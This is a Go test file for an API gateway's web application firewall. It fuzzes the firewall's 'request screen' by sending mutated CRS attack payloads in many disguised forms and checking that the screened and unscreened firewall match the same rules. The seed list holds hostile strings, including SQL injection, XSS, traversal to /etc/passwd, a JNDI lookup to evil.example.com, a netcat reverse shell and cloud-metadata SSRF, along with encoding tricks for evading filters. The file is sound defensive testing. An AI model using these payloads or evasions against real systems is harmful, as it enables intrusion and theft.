package waf

import (
	"encoding/json"
	"flag"
	"fmt"
	"html"
	"io/fs"
	"math/rand/v2"
	"net/url"
	"path"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"

	"github.com/api-gateway/api-gateway/model"
)

// The request screen's differential fuzz: random requests, built from mutated CRS
// regression payloads put in random places of a request, go through the WAF with and
// without the screen, and must match exactly the same rules (and give the same verdict).
// TestScreenSameMatches replays the CRS payloads as they are; this test moves them into
// other parts of the request (argument names, cookies and their names, arbitrary headers,
// JSON keys and nested values, XML text and attributes, multipart names, filenames and
// part headers, the path) and disguises them (case, ſ and K, fullwidth forms, %u and
// %XX escapes, double encoding, '+', NUL bytes, backslash escapes, HTML entities with and
// without ';', comments, Unicode and Latin-1 whitespace, invalid UTF-8), at every paranoia
// level. FuzzScreenSameMatches does the same with Go's fuzzing engine.

// Flags for longer runs: go test -run TestScreenFuzz ./waf -args -screenfuzz.n=50000 -screenfuzz.seed=7
var (
	screenFuzzN    = flag.Int("screenfuzz.n", 0, "requests (values) of the screen fuzz tests (0: the default)")
	screenFuzzSeed = flag.Uint64("screenfuzz.seed", 0, "seed of the screen fuzz tests (0: the fixed default)")
)

// screenFuzzCount is how many requests or values a fuzz test makes: def, race under the
// race detector, or -screenfuzz.n.
func screenFuzzCount(def, race int) int {
	switch {
	case *screenFuzzN > 0:
		return *screenFuzzN
	case raceEnabled:
		return race
	}
	return def
}

func screenFuzzRand() *rand.Rand {
	seed := uint64(0x5c2ee7)
	if *screenFuzzSeed != 0 {
		seed = *screenFuzzSeed
	}
	return rand.New(rand.NewPCG(seed, 0xf022))
}

// screenPair is a WAF with the request screen and the same WAF without it.
type screenPair struct {
	name            string
	screened, plain *WAF
}

var screenPairsOnce struct {
	sync.Once
	pairs []screenPair
	err   error
}

// screenPairs compiles (once per test binary) the screened and unscreened WAFs: paranoia
// levels 1 to 4 in detection mode, paranoia 1 in blocking mode, the whole CRS text at
// paranoia 1 (higher levels behind their guards), and the CRS regression suite's settings.
func screenPairs(tb testing.TB) []screenPair {
	tb.Helper()
	p := &screenPairsOnce
	p.Do(func() {
		for _, tc := range []struct {
			name string
			s    model.WAFSettings
			pl   int
		}{
			{"pl1", model.WAFSettings{Mode: model.WAFModeDetect}, 0},
			{"pl2", model.WAFSettings{Mode: model.WAFModeDetect, ParanoiaLevel: 2}, 0},
			{"pl3", model.WAFSettings{Mode: model.WAFModeDetect, ParanoiaLevel: 3}, 0},
			{"pl4", model.WAFSettings{Mode: model.WAFModeDetect, ParanoiaLevel: 4}, 0},
			{"pl1 block", model.WAFSettings{}, 0},
			{"pl1 whole CRS", model.WAFSettings{Mode: model.WAFModeDetect}, maxParanoiaLevel},
			{"pl4 CRS test settings", model.WAFSettings{ParanoiaLevel: 4, CustomRules: crsTestSettings}, 0},
		} {
			cfg := ConfigFromSettings(&tc.s)
			if !cfg.screenable() {
				p.err = fmt.Errorf("%s: settings not screenable", tc.name)
				return
			}
			pl := cfg.prunableLevel()
			if tc.pl != 0 {
				pl = tc.pl
			}
			screened, err := compile(cfg, pl, quiet)
			if err != nil {
				p.err = fmt.Errorf("%s: %w", tc.name, err)
				return
			}
			plain, err := compileSecs(cfg, withoutScreen(cfg), pl, quiet)
			if err != nil {
				p.err = fmt.Errorf("%s: %w", tc.name, err)
				return
			}
			p.pairs = append(p.pairs, screenPair{tc.name, screened, plain})
		}
	})
	if p.err != nil {
		tb.Fatal(p.err)
	}
	return p.pairs
}

// screenDiff runs raw through both WAFs of the pair and describes any difference ("" when
// they agree); plain is what the unscreened WAF matched, and flaky says the unscreened WAF
// itself gave different answers for the request.
//
// Coraza is not deterministic on every request: its per-transaction transformation cache
// is keyed by the address of a value's key string and the value's index in the target's
// values, and collections iterate their keys in map order. Values sharing one key string
// (the headers of one multipart part in MULTIPART_PART_HEADERS) can then be read from the
// cache entry of another value, differently from rule to rule and request to request (the
// same request matches 922130 or not). When the first answers differ, both WAFs run the
// request again: a difference is reported when both WAFs are deterministic on it, or when a
// rule matches in every run of one WAF and in no run of the other.
func screenDiff(pair screenPair, raw rawRequest, id string) (diff string, plain []int, flaky bool) {
	a, va := matchedIDs(pair.screened, raw, id)
	b, vb := matchedIDs(pair.plain, raw, id)
	if slices.Equal(a, b) && reflect.DeepEqual(va, vb) {
		return "", b, false
	}
	const runs = 8
	type outcomes struct {
		seen        map[string]bool
		all, inAll  map[int]int
		first       []int
		firstResult string
	}
	rerun := func(w *WAF, ids []int, v Verdict) outcomes {
		o := outcomes{seen: map[string]bool{}, all: map[int]int{}, first: ids, firstResult: fmt.Sprintf("%v %+v", ids, v)}
		for i := 0; i < runs; i++ {
			if i > 0 {
				ids, v = matchedIDs(w, raw, id)
			}
			o.seen[fmt.Sprintf("%v %+v", ids, v)] = true
			for _, id := range slices.Compact(slices.Clone(ids)) {
				o.all[id]++
			}
		}
		return o
	}
	sa, sb := rerun(pair.screened, a, va), rerun(pair.plain, b, vb)
	flaky = len(sb.seen) > 1
	var missed, extra []int
	for id, n := range sb.all {
		if n == runs && sa.all[id] == 0 {
			missed = append(missed, id)
		}
	}
	for id, n := range sa.all {
		if n == runs && sb.all[id] == 0 {
			extra = append(extra, id)
		}
	}
	slices.Sort(missed)
	slices.Sort(extra)
	if len(sa.seen) == 1 && len(sb.seen) == 1 || len(missed) > 0 || len(extra) > 0 {
		return fmt.Sprintf("%s: screen missed %v, screen extra %v (screened %s; plain %s; %d and %d distinct answers in %d runs)",
			pair.name, missed, extra, sa.firstResult, sb.firstResult, len(sa.seen), len(sb.seen), runs), b, flaky
	}
	return "", b, flaky
}

func idsMinus(a, b []int) []int {
	var out []int
	for _, id := range a {
		if !slices.Contains(b, id) {
			out = append(out, id)
		}
	}
	return out
}

// describeRaw renders a request for a failure message.
func describeRaw(r rawRequest) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %q %s\n", r.method, r.uri, r.version)
	for _, h := range r.headers {
		fmt.Fprintf(&b, "  %q: %q\n", h[0], h[1])
	}
	if len(r.body) > 0 {
		fmt.Fprintf(&b, "  body %q\n", r.body)
	}
	return b.String()
}

// screenFuzzSeeds are the payloads the generator starts from: every query value and name,
// header value and short body of the CRS regression tests, and some hand-written ones
// aimed at the screen's case-folding and transformation shortcuts.
func screenFuzzSeeds(tb testing.TB) []string {
	tb.Helper()
	seen := map[string]bool{}
	var seeds []string
	add := func(s string) {
		if s == "" || len(s) > 2048 || seen[s] {
			return
		}
		seen[s] = true
		seeds = append(seeds, s)
	}
	for _, s := range []string{
		"1' UNION SELECT password FROM users--", "<script>alert(1)</script>", "../../../../etc/passwd",
		"; cat /etc/passwd", "${jndi:ldap://evil.example.com/a}", "php://filter/resource=index",
		"__proto__[x]=1", "constructor.prototype", "while(true){}", "/*!50000select*/", "a' or 1=1 #",
		"<svg/onload=alert(1)>", "javascript:alert(1)", "{{7*7}}", "<?php system($_GET['c']); ?>",
		"ſelect * from uſers", "\u212aill", "<ſcript>", "ＳＥＬＥＣＴ", "%uff1cscript%uff1e", "%u0027 or 1=1",
		"&lt;script&gt;", "&#x3c;script&#x3e;", "&#60script&#62", "sel%00ect", "s\\u0065lect", "\\x3cscript\\x3e",
		"union\vselect", "union\fselect", "union\u0085select", "union\u00a0select", "union\xa0select",
		"union\u3000select", "select\x00from", "\xc0\xae\xc0\xae/", "%c0%ae%c0%ae/", "..%2f..%2fetc%2fpasswd",
		"..%252f..%252fetc%252fpasswd", "c:\\windows\\win.ini", "..\\..\\boot.ini", "cmd.exe /c dir",
		"`id`", "$(id)", "|nc -e /bin/sh 10.0.0.1 4444", "eval(atob('YWxlcnQoMSk='))", "document.cookie",
		"1;waitfor delay '0:0:5'--", "sleep(5)#", "benchmark(10000000,md5(1))", "@@version", "information_schema.tables",
		"ORDER BY 1--", "HAVING 1=1", "' AND 1=CONVERT(int,@@version)--", "x\" onmouseover=\"alert(1)",
		"<iframe src=//evil>", "<img src=x onerror=alert(1)>", "expression(alert(1))", "vbscript:msgbox",
		"/etc/shadow", "/proc/self/environ", ".htaccess", "web.config", "WEB-INF/web.xml", "java.lang.Runtime",
		"#{T(java.lang.Runtime).getRuntime().exec('id')}", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
		"\\\"; system('id'); //", "O:8:\"stdClass\":0:{}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "/bin/bash -i",
		"powershell -enc", "Set-Cookie: x=1", "\r\nX-Injected: 1", "%0d%0aSet-Cookie:x=1", "gopher://127.0.0.1:6379/",
		"http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "ldap://x", "sqlmap/1.7", "nikto",
	} {
		add(s)
	}
	cases, _ := loadCRSCases(tb)
	for _, c := range cases {
		r, err := buildRaw(c.input)
		if err != nil {
			continue
		}
		if _, q, ok := strings.Cut(r.uri, "?"); ok {
			for _, kv := range strings.Split(q, "&") {
				k, v, _ := strings.Cut(kv, "=")
				for _, s := range []string{k, v} {
					if u, err := url.QueryUnescape(s); err == nil {
						add(u)
					} else {
						add(s)
					}
				}
			}
		}
		for _, h := range r.headers {
			switch strings.ToLower(h[0]) {
			case "host", "content-length", "connection", "accept", "content-type", "transfer-encoding":
			default:
				add(h[1])
			}
		}
		if len(r.body) > 0 && len(r.body) <= 1024 {
			add(string(r.body))
			if vals, err := url.ParseQuery(string(r.body)); err == nil {
				for k, vs := range vals {
					add(k)
					for _, v := range vs {
						add(v)
					}
				}
			}
		}
	}
	return seeds
}

// fuzzGen builds random requests.
type fuzzGen struct {
	r     *rand.Rand
	seeds []string
}

var fuzzSpaces = []string{" ", "\t", "\n", "\r", "\v", "\f", "\u0085", "\u00a0", "\xa0", "\x85", "\u2000", "\u3000", "+", "%20", "%09", "%0b", "%a0", "/**/"}

var fuzzInvalidUTF8 = []string{"\xff", "\xc0\xae", "\xc2", "\xe2\x80", "\xed\xa0\x80", "\xf8\x88\x80\x80\x80", "\x80", "\xc0\xaf"}

var fuzzEntities = map[byte][]string{
	'<':  {"&lt;", "&lt", "&LT;", "&#60;", "&#060", "&#x3c;", "&#X3C", "&#x003c;"},
	'>':  {"&gt;", "&gt", "&#62;", "&#x3e"},
	'"':  {"&quot;", "&quot", "&#34;", "&#x22"},
	'\'': {"&apos;", "&#39;", "&#x27", "&#039"},
	'&':  {"&amp;", "&amp", "&#38;"},
	'(':  {"&lpar;", "&#40;", "&#x28"},
	')':  {"&rpar;", "&#41;"},
	'/':  {"&sol;", "&#47;", "&#x2f"},
	':':  {"&colon;", "&#58"},
	' ':  {"&nbsp;", "&#32;", "&Tab;", "&NewLine;"},
}

func (g *fuzzGen) pick(ss []string) string { return ss[g.r.IntN(len(ss))] }

func (g *fuzzGen) seed() string { return g.seeds[g.r.IntN(len(g.seeds))] }

// mutate applies a few random disguises to s.
func (g *fuzzGen) mutate(s string) string {
	for n := g.r.IntN(4); n > 0; n-- {
		s = g.mutateOnce(s)
		if len(s) > 4096 {
			s = s[:4096]
		}
	}
	return s
}

// mapBytes rewrites a random share of the bytes of s with f (ASCII bytes only when ascii).
func (g *fuzzGen) mapBytes(s string, share float64, f func(c byte) string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if g.r.Float64() < share {
			b.WriteString(f(s[i]))
		} else {
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

func (g *fuzzGen) mutateOnce(s string) string {
	share := []float64{0.1, 0.3, 1}[g.r.IntN(3)]
	switch g.r.IntN(20) {
	case 0: // case changes
		return g.mapBytes(s, share, func(c byte) string {
			switch {
			case c >= 'a' && c <= 'z':
				return string(c - 32)
			case c >= 'A' && c <= 'Z':
				return string(c + 32)
			}
			return string(c)
		})
	case 1: // ſ and K, which fold onto s and k
		return g.mapBytes(s, share, func(c byte) string {
			switch c {
			case 's', 'S':
				return "\u017f"
			case 'k', 'K':
				return "\u212a"
			}
			return string(c)
		})
	case 2: // fullwidth forms
		return g.mapBytes(s, share, func(c byte) string {
			if c > 0x20 && c < 0x7f {
				return string(rune(0xff01 + int(c) - 0x21))
			}
			return string(c)
		})
	case 3: // %u escapes (plain and fullwidth code points)
		return g.mapBytes(s, share, func(c byte) string {
			if g.r.IntN(2) == 0 && c > 0x20 && c < 0x7f {
				return fmt.Sprintf("%%u%04X", 0xff01+int(c)-0x21)
			}
			return fmt.Sprintf("%%u%04x", c)
		})
	case 4: // %XX escapes
		return g.mapBytes(s, share, func(c byte) string {
			if g.r.IntN(2) == 0 {
				return fmt.Sprintf("%%%02X", c)
			}
			return fmt.Sprintf("%%%02x", c)
		})
	case 5: // double encoding
		return strings.ReplaceAll(url.QueryEscape(s), "%", "%25")
	case 6: // whitespace variants
		sp := g.pick(fuzzSpaces)
		return g.mapBytes(s, share, func(c byte) string {
			if c == ' ' || c == '\t' || c == '\n' || c == '+' {
				return sp
			}
			return string(c)
		})
	case 7: // NUL bytes
		nul := g.pick([]string{"\x00", "%00", "%u0000", "\\0", "\\x00"})
		return g.mapBytes(s, share/3, func(c byte) string { return string(c) + nul })
	case 8: // backslash escapes
		return g.mapBytes(s, share, func(c byte) string {
			switch g.r.IntN(6) {
			case 0:
				return fmt.Sprintf("\\x%02x", c)
			case 1:
				return fmt.Sprintf("\\u%04x", c)
			case 2:
				return fmt.Sprintf("\\%o", c)
			case 3:
				return fmt.Sprintf("\\%x ", c) // CSS
			case 4:
				return fmt.Sprintf("\\u{%x}", c)
			}
			return "\\" + string(c)
		})
	case 9: // HTML entities
		return g.mapBytes(s, share, func(c byte) string {
			if es, ok := fuzzEntities[c]; ok {
				return g.pick(es)
			}
			if g.r.IntN(3) == 0 {
				return fmt.Sprintf("&#%d", c)
			}
			return string(c)
		})
	case 10: // comments
		cm := g.pick([]string{"/**/", "/*x*/", "/*!*/", "/*", "*/", "--", "#", "<!--", "-->", "/*!50000"})
		return g.mapBytes(s, share/3, func(c byte) string {
			if c == ' ' {
				return cm
			}
			return string(c) + cm
		})
	case 11: // invalid UTF-8
		bad := g.pick(fuzzInvalidUTF8)
		i := g.r.IntN(len(s) + 1)
		return s[:i] + bad + s[i:]
	case 12: // substring
		if len(s) < 2 {
			return s
		}
		i := g.r.IntN(len(s))
		j := i + 1 + g.r.IntN(len(s)-i)
		return s[i:j]
	case 13: // two payloads
		return s + g.pick([]string{"", " ", "&", ";", "\n", "|"}) + g.seed()
	case 14: // path tricks
		return g.pick([]string{"../", "..\\", "/./", "//", "..%2f", "%2e%2e/", "....//", "..;/", ".%00./"}) + s
	case 15: // quotes and shell metacharacters
		return g.pick([]string{"'", "\"", "`", "\\'", "^", ";", "|", "$(", ")", "'||'"}) + s + g.pick([]string{"", "'", "\"", "`", "--", "#", ")"})
	case 16: // insert a random byte
		i := g.r.IntN(len(s) + 1)
		return s[:i] + string(rune(g.r.IntN(256))) + s[i:]
	case 17: // utf8 non-ASCII letters that lowercase/uppercase differently
		return g.mapBytes(s, share/2, func(c byte) string {
			return string(c) + g.pick([]string{"é", "É", "İ", "ı", "ß", "ẞ", "Ω", "Å", "µ", "ǅ", "\u0130"})
		})
	case 18: // '+' for spaces, and spaces for '+'
		if g.r.IntN(2) == 0 {
			return strings.ReplaceAll(s, " ", "+")
		}
		return strings.ReplaceAll(s, "+", " ")
	}
	// URL-decode once (undo an encoding of the seed)
	if u, err := url.QueryUnescape(s); err == nil {
		return u
	}
	return s
}

// encodeQuery puts a payload into a query string component: escaped, escaped the way a
// browser does (spaces as %20), or raw but for the separators.
func (g *fuzzGen) encodeQuery(s string) string {
	switch g.r.IntN(4) {
	case 0:
		return url.QueryEscape(s)
	case 1:
		return url.PathEscape(s)
	case 2:
		return strings.NewReplacer("&", "%26", "#", "%23", "=", "%3D").Replace(s)
	}
	return strings.NewReplacer("&", "%26", "#", "%23", " ", "+", "%", "%25", "=", "%3D").Replace(s)
}

// fuzzPlace says where a payload goes.
type fuzzPlace uint8

const (
	placeQueryValue fuzzPlace = iota
	placeQueryName
	placeQueryRepeated
	placePath
	placePathAndQuery
	placeCookieValue
	placeCookieName
	placeHeaderValue
	placeUserAgent
	placeReferer
	placeHeaderName
	placeFormValue
	placeFormName
	placeJSONValue
	placeJSONKey
	placeJSONNested
	placeJSONArray
	placeXMLText
	placeXMLAttr
	placeMultipartValue
	placeMultipartName
	placeMultipartFilename
	placeMultipartHeader
	placeRawBody
	placeMethod
	numPlaces
)

var fuzzHeaderNames = []string{"X-Api-Version", "X-Custom", "Accept", "Accept-Language", "Origin", "X-Forwarded-For",
	"X-Forwarded-Host", "Content-Type", "Cache-Control", "Via", "Range", "If-None-Match", "Authorization", "Accept-Charset", "Forwarded"}

// fuzzRequest is a request being built.
type fuzzRequest struct {
	method, path string
	query        []string
	headers      [][2]string
	cookies      []string
	form         []string // urlencoded body pairs
	json         []string // JSON body members ("key":value)
	jsonArray    []string // JSON array elements (the body is an array when set)
	xml          []string // XML elements
	parts        []string // multipart parts
	rawBody      string
	contentType  string
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func xmlEscape(s string) string {
	var b strings.Builder
	for _, r := range s {
		switch {
		case r == utf8.RuneError:
			b.WriteString("?")
		case r < 0x20 && r != '\t' && r != '\n' && r != '\r':
			b.WriteString("?")
		default:
			b.WriteString(html.EscapeString(string(r)))
		}
	}
	return b.String()
}

// place adds payload p to the request.
func (g *fuzzGen) place(fr *fuzzRequest, where fuzzPlace, p string) {
	switch where {
	case placeQueryValue:
		fr.query = append(fr.query, g.pick([]string{"q", "id", "file", "x", "search"})+"="+g.encodeQuery(p))
	case placeQueryName:
		fr.query = append(fr.query, g.encodeQuery(p)+g.pick([]string{"=1", "=", ""}))
	case placeQueryRepeated:
		fr.query = append(fr.query, "a=benign", "a="+g.encodeQuery(p), "a=other")
	case placePath:
		fr.path = "/" + g.pick([]string{"", "api/", "static/img/"}) + url.PathEscape(p) + g.pick([]string{"", ".php", "/"})
	case placePathAndQuery:
		fr.path = "/" + strings.NewReplacer("?", "%3F", "#", "%23", " ", "%20").Replace(p)
	case placeCookieValue:
		fr.cookies = append(fr.cookies, g.pick([]string{"session", "id", "__utmz", "pref"})+"="+strings.NewReplacer(";", "%3B").Replace(p))
	case placeCookieName:
		fr.cookies = append(fr.cookies, strings.NewReplacer(";", "%3B", "=", "%3D").Replace(p)+"=1")
	case placeHeaderValue:
		fr.headers = append(fr.headers, [2]string{g.pick(fuzzHeaderNames), p})
	case placeUserAgent:
		fr.headers = append(fr.headers, [2]string{"User-Agent", p})
	case placeReferer:
		fr.headers = append(fr.headers, [2]string{"Referer", g.pick([]string{"", "http://example.com/?q="}) + p})
	case placeHeaderName:
		name := strings.Map(func(r rune) rune {
			if r <= ' ' || r == ':' || r >= 0x7f {
				return '-'
			}
			return r
		}, p)
		fr.headers = append(fr.headers, [2]string{"X-" + name, "1"})
	case placeFormValue:
		fr.form = append(fr.form, g.pick([]string{"comment", "user", "q"})+"="+g.encodeQuery(p))
	case placeFormName:
		fr.form = append(fr.form, g.encodeQuery(p)+"=1")
	case placeJSONValue:
		fr.json = append(fr.json, `"v`+fmt.Sprint(len(fr.json))+`":`+jsonString(p))
	case placeJSONKey:
		fr.json = append(fr.json, jsonString(p)+`:1`)
	case placeJSONNested:
		fr.json = append(fr.json, `"n`+fmt.Sprint(len(fr.json))+`":{"a":[1,{"b":`+jsonString(p)+`}],"c":null}`)
	case placeJSONArray:
		fr.jsonArray = append(fr.jsonArray, jsonString(p))
	case placeXMLText:
		fr.xml = append(fr.xml, "<item>"+xmlEscape(p)+"</item>")
	case placeXMLAttr:
		fr.xml = append(fr.xml, `<item name="`+xmlEscape(p)+`">x</item>`)
	case placeMultipartValue:
		fr.parts = append(fr.parts, "Content-Disposition: form-data; name=\"field\"\r\n\r\n"+p)
	case placeMultipartName:
		fr.parts = append(fr.parts, "Content-Disposition: form-data; name=\""+strings.NewReplacer("\"", "'", "\r", "", "\n", "").Replace(p)+"\"\r\n\r\nvalue")
	case placeMultipartFilename:
		fr.parts = append(fr.parts, "Content-Disposition: form-data; name=\"upload\"; filename=\""+strings.NewReplacer("\"", "'", "\r", "", "\n", "").Replace(p)+"\"\r\nContent-Type: application/octet-stream\r\n\r\ndata")
	case placeMultipartHeader:
		fr.parts = append(fr.parts, "Content-Disposition: form-data; name=\"f\"\r\n"+g.pick([]string{"X-Part", "Content-Type", "Content-Transfer-Encoding"})+": "+strings.NewReplacer("\r", "", "\n", " ").Replace(p)+"\r\n\r\nvalue")
	case placeRawBody:
		fr.rawBody = p
		fr.contentType = g.pick([]string{"text/plain", "application/octet-stream", "application/x-www-form-urlencoded", "application/json", "text/xml", ""})
	case placeMethod:
		m := strings.Map(func(r rune) rune {
			if r <= ' ' || r >= 0x7f {
				return -1
			}
			return r
		}, p)
		if m != "" {
			fr.method = m
		}
	}
}

// raw renders the request, choosing one body (the first kind that has content).
func (g *fuzzGen) raw(fr *fuzzRequest) rawRequest {
	uri := fr.path
	if len(fr.query) > 0 {
		uri += "?" + strings.Join(fr.query, "&")
	}
	headers := [][2]string{
		{"Host", "api.example.com"},
		{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
		{"Accept", "*/*"},
	}
	// A payload header replaces the default of the same name.
	for _, h := range fr.headers {
		if i := slices.IndexFunc(headers, func(d [2]string) bool { return strings.EqualFold(d[0], h[0]) }); i >= 0 && g.r.IntN(2) == 0 {
			headers[i][1] = h[1]
			continue
		}
		headers = append(headers, h)
	}
	if len(fr.cookies) > 0 {
		headers = append(headers, [2]string{"Cookie", strings.Join(fr.cookies, "; ")})
	}
	var body, ctype string
	switch {
	case len(fr.parts) > 0:
		const boundary = "----fuzzboundary7MA4YWxk"
		var b strings.Builder
		for _, p := range fr.parts {
			b.WriteString("--" + boundary + "\r\n" + p + "\r\n")
		}
		b.WriteString("--" + boundary + "--\r\n")
		body, ctype = b.String(), "multipart/form-data; boundary="+boundary
	case len(fr.json) > 0:
		body, ctype = "{"+strings.Join(fr.json, ",")+"}", "application/json"
	case len(fr.jsonArray) > 0:
		body, ctype = "["+strings.Join(fr.jsonArray, ",")+"]", g.pick([]string{"application/json", "application/merge-patch+json"})
	case len(fr.xml) > 0:
		body, ctype = `<?xml version="1.0"?><root>`+strings.Join(fr.xml, "")+"</root>", g.pick([]string{"text/xml", "application/xml", "application/soap+xml"})
	case len(fr.form) > 0:
		body, ctype = strings.Join(fr.form, "&"), "application/x-www-form-urlencoded"
	case fr.rawBody != "":
		body, ctype = fr.rawBody, fr.contentType
	}
	method := fr.method
	if body != "" {
		if method == "GET" {
			method = g.pick([]string{"POST", "PUT", "PATCH"})
		}
		if ctype != "" {
			headers = append(headers, [2]string{"Content-Type", ctype})
		}
		headers = append(headers, [2]string{"Content-Length", fmt.Sprint(len(body))})
	}
	return rawRequest{method: method, uri: uri, version: "HTTP/1.1", headers: headers, body: []byte(body),
		srcIP: "198.51.100.20", srcPort: 40404, dstIP: "10.0.0.5", dstPort: 8080}
}

// request builds one random request with one to three payloads.
func (g *fuzzGen) request() rawRequest {
	fr := &fuzzRequest{method: "GET", path: "/" + g.pick([]string{"", "index.php", "api/v1/items", "search"})}
	for n := 1 + g.r.IntN(3); n > 0; n-- {
		p := g.seed()
		if g.r.IntN(5) != 0 {
			p = g.mutate(p)
		}
		g.place(fr, fuzzPlace(g.r.IntN(int(numPlaces))), p)
	}
	return g.raw(fr)
}

// TestScreenFuzzSameMatches is a deterministic randomized differential test of the
// screen: a fixed sequence of random requests (see fuzzGen) goes through every pair of
// screenPairs, and the screened WAF must match exactly the rules the unscreened one does.
func TestScreenFuzzSameMatches(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	start := time.Now()
	pairs := screenPairs(t)
	g := &fuzzGen{r: screenFuzzRand(), seeds: screenFuzzSeeds(t)}
	n := screenFuzzCount(1600, 150)
	type job struct {
		pair int
		raw  rawRequest
	}
	jobs := make([]job, n)
	for i := range jobs {
		jobs[i] = job{pair: g.r.IntN(len(pairs)), raw: g.request()}
	}
	compiled := time.Now()
	pl4 := slices.IndexFunc(pairs, func(p screenPair) bool { return p.name == "pl4" })
	var (
		mu       sync.Mutex
		diffs    []string
		detected int
		flaky    int
	)
	// Every request runs through its pair and through paranoia 4 (the most rules).
	parallelEach(len(jobs), func(i int) {
		id := fmt.Sprintf("screen-fuzz-%d", i)
		for _, pi := range slices.Compact([]int{jobs[i].pair, pl4}) {
			d, plain, fl := screenDiff(pairs[pi], jobs[i].raw, id)
			mu.Lock()
			if fl {
				flaky++
			}
			if d != "" {
				diffs = append(diffs, fmt.Sprintf("request %d: %s\n%s", i, d, describeRaw(jobs[i].raw)))
			}
			if pi == pl4 && slices.ContainsFunc(plain, func(id int) bool { return id >= 911000 && id < 949000 }) {
				detected++
			}
			mu.Unlock()
		}
	})
	reportDiffs(t, diffs)
	t.Logf("%d requests (%d seeds), %d detected at paranoia 4, %d with different matches, %d on which Coraza alone is not deterministic; setup %s, run %s",
		n, len(g.seeds), detected, len(diffs), flaky, compiled.Sub(start).Round(time.Millisecond), time.Since(compiled).Round(time.Millisecond))
	if detected < n/4 {
		t.Errorf("only %d of %d requests detected: the comparison is too weak", detected, n)
	}
}

// FuzzScreenSameMatches compares the screened and unscreened WAFs on one payload put in
// one place of a request (place and pair chosen by the fuzzer).
func FuzzScreenSameMatches(f *testing.F) {
	for i, s := range []string{"1' UNION SELECT password FROM users--", "<ſcript>alert(1)</ſcript>", "..%u2216..%u2216etc/passwd",
		"&#x3c;script&#x3e;", "sel%00ect * from users", "ＳＥＬＥＣＴ", "union\vselect", "${jndi:ldap://x}", "; cat /etc/passwd"} {
		f.Add(s, uint8(i), uint8(i))
	}
	f.Fuzz(func(t *testing.T, payload string, where, pair uint8) {
		pairs := screenPairs(t)
		g := &fuzzGen{r: rand.New(rand.NewPCG(uint64(where), uint64(pair))), seeds: []string{payload}}
		fr := &fuzzRequest{method: "GET", path: "/"}
		g.place(fr, fuzzPlace(where%uint8(numPlaces)), payload)
		raw := g.raw(fr)
		if d, _, _ := screenDiff(pairs[int(pair)%len(pairs)], raw, "screen-fuzz"); d != "" {
			t.Errorf("%s\n%s", d, describeRaw(raw))
		}
	})
}

// TestScreenFuzzConditions checks the screen's conditions one level down, on many more
// values than whole requests allow: for every screened rule of the whole CRS and random
// (mutated payload) values, the rule's transformation chain as the screen computes it,
// then (1) the indexed condition (hnode over the phase's literal index) agrees with the
// direct one (ruleCond.eval), and (2) the condition holds whenever the rule's operator
// (the compiled @rx, or @pm's ASCII case-insensitive phrase search) matches.
func TestScreenFuzzConditions(t *testing.T) {
	if _, err := compile(ConfigFromSettings(&model.WAFSettings{ParanoiaLevel: 4}), maxParanoiaLevel, quiet); err != nil {
		t.Fatal(err)
	}
	plan := screenPlanFor(maxParanoiaLevel)
	ops := screenRuleOperators(t, mustCRS(t, maxParanoiaLevel))
	g := &fuzzGen{r: screenFuzzRand(), seeds: screenFuzzSeeds(t)}
	n := screenFuzzCount(1200, 150)
	values := make([]string, 0, n+len(g.seeds))
	for i := 0; i < len(g.seeds); i += 8 {
		values = append(values, g.seeds[i]) // a sample: TestScreenSameMatches has them all
	}
	for range n {
		values = append(values, g.mutate(g.seed()))
	}
	bad := 0
	checked, matched := 0, 0
	for phase := 1; phase <= 2; phase++ {
		pp := &plan.phases[phase]
		s := &screenRun{pp: pp, maybe: make([]uint16, len(pp.rules))}
		for _, v := range values {
			for _, r := range pp.rules {
				truth, ok := ops[r.id]
				if !ok {
					t.Fatalf("rule %d: operator not found", r.id)
				}
				tv, known := applyChain(r.steps, v)
				if !known {
					continue
				}
				checked++
				cond := r.rc.eval(tv)
				if r.h != nil {
					s.n = 0
					if idx := r.matches(s.scan(tv)); idx != cond && bad < 20 {
						bad++
						t.Errorf("rule %d: indexed condition %v, direct %v, on %q", r.id, idx, cond, tv)
					}
				}
				if truth(tv) {
					matched++
					if !cond && bad < 20 {
						bad++
						t.Errorf("rule %d: operator matches %q (from %q) but the screen's condition does not hold", r.id, tv, v)
					}
				}
			}
		}
	}
	t.Logf("%d values, %d (rule, value) pairs checked, %d operator matches", len(values), checked, matched)
	if matched < 1000 {
		t.Errorf("only %d operator matches: the check is too weak", matched)
	}
}

// screenRuleOperators maps the id of every screenable CRS rule head to its operator as
// Coraza runs it: the gateway @rx's compiled expression, or @pm/@pmFromFile's ASCII
// case-insensitive phrase search.
func screenRuleOperators(t *testing.T, text string) map[int]func(string) bool {
	t.Helper()
	ops := map[int]func(string) bool{}
	inChain := false
	for _, d := range splitDirectives(text) {
		line := strings.ReplaceAll(d.text, "\\\n", "")
		verb, rest, _ := strings.Cut(line, " ")
		if verb != "SecRule" {
			continue
		}
		_, op, actions, ok := splitSecRule(rest)
		child := inChain
		inChain = ok && hasAction(actions, "chain")
		if !ok || child {
			continue
		}
		m := idRx.FindStringSubmatch(actions)
		if m == nil {
			continue
		}
		var id int
		fmt.Sscan(m[1], &id)
		name, args, _ := strings.Cut(strings.TrimSpace(op), " ")
		args = strings.TrimSpace(args)
		switch name {
		case "@" + rxOperatorName:
			if c, ok := rxCache.Load("(?sm)" + args); ok {
				re := c.(*compiledRx).re
				ops[id] = re.MatchString
			}
		case "@pm":
			ops[id] = phraseSearch(strings.Split(strings.ToLower(args), " "))
		case "@pmFromFile":
			r, _, _ := parseScreenedRule("ARGS", op, actions)
			if r != nil {
				data, err := fsReadCRS(args)
				if err != nil {
					t.Fatal(err)
				}
				var phrases []string
				for _, l := range strings.Split(data, "\n") {
					l = strings.TrimSpace(l)
					if l != "" && l[0] != '#' {
						phrases = append(phrases, strings.ToLower(l))
					}
				}
				ops[id] = phraseSearch(phrases)
			}
		}
	}
	return ops
}

